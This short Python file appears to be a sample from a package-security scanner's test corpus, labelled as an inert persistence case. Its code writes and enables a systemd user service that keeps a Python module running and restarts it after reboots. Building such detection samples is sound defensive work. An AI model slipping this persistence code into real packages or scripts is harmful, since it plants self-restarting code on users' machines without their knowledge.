# pkgguard corpus 085 (persistence), modelled on [telnyx]; inert, never run.
import os
import subprocess

unit_dir = os.path.expanduser("~/.config/systemd/user")
os.makedirs(unit_dir, exist_ok=True)
with open(os.path.join(unit_dir, "pkg-sync.service"), "w") as f:
    f.write("[Service]\nExecStart=/usr/bin/python3 -m pkg.agent\nRestart=always\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "pkg-sync.service"])
